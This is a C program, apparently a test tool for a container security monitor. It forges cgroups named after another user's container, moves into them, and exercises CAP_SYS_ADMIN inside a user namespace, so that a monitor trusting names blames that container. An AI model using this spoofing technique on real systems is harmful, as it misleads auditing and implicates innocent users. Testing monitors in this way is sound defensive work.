// SPDX-License-Identifier: Apache-2.0
//
// attack-forged-cgroup makes a cgroup that is named like another user's container, moves itself
// there and uses CAP_SYS_ADMIN. Any user has that capability in a user namespace of its own. A
// monitor that trusts names attributes the use to the container.
//
//   attack-forged-cgroup DIRECTORY ID
//       DIRECTORY is the directory of a cgroup that was delegated to the user.
//
//   attack-forged-cgroup DIRECTORY ID COUNT
//       Makes COUNT cgroups, whose names end in other digits than ID, and makes a capability check
//       in each.
//
// It exits 0 on success, 1 on failure, 2 on wrong usage.

#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static int put(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);
	ssize_t length = strlen(text);
	int done = file >= 0 && write(file, text, length) == length;

	if (file >= 0)
		close(file);
	return done;
}

/* Makes a cgroup and moves this process there. */
static int enter(const char *directory, const char *name)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/%s", directory, name);
	if (mkdir(path, 0755))
		return 0;
	snprintf(path, sizeof(path), "%s/%s/cgroup.procs", directory, name);
	return put(path, "0");
}

static int many(const char *directory, const char *id, long count)
{
	char name[80];

	for (long i = 0; i < count; i++) {
		snprintf(name, sizeof(name), "%.56s%08x", id, (unsigned)i);
		if (!enter(directory, name))
			return fail(name);
		if (setuid(getuid()) ||
		    chroot("/") == 0) /* checks CAP_SYS_CHROOT, which the process lacks */
			return fail("chroot");
	}
	return 0;
}

/* Copies this program to a file system in its own mount namespace, as in a container. */
static int copy(const char *path)
{
	int from = open("/proc/self/exe", O_RDONLY);
	int to = open(path, O_WRONLY | O_CREAT, 0755);
	struct stat stat;
	int done = from >= 0 && to >= 0 && !fstat(from, &stat) &&
		   sendfile(to, from, NULL, stat.st_size) == stat.st_size;

	if (to >= 0)
		close(to);
	return done;
}

int main(int argc, char **argv)
{
	char users[64], groups[64];

	if (argc == 2 && !strcmp(argv[1], "use")) {
		if (mount("none", "/mnt", "tmpfs", 0, NULL))
			return fail("mount");
		return 0;
	}
	if (argc < 3 || argc > 4 || strlen(argv[2]) != 64) {
		fprintf(stderr, "usage: attack-forged-cgroup DIRECTORY ID [COUNT]\n");
		return 2;
	}
	if (argc == 4)
		return many(argv[1], argv[2], strtol(argv[3], NULL, 10));
	if (!enter(argv[1], argv[2]))
		return fail(argv[1]);
	snprintf(users, sizeof(users), "0 %d 1", (int)getuid());
	snprintf(groups, sizeof(groups), "0 %d 1", (int)getgid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return fail("unshare");
	if (!put("/proc/self/setgroups", "deny") || !put("/proc/self/uid_map", users) ||
	    !put("/proc/self/gid_map", groups) || mount("none", "/tmp", "tmpfs", 0, NULL) ||
	    mkdir("/tmp/mnt", 0755) || !copy("/tmp/forged") || chroot("/tmp") || chdir("/"))
		return fail("preparing");
	execl("/forged", "forged", "use", NULL);
	return fail("execl");
}
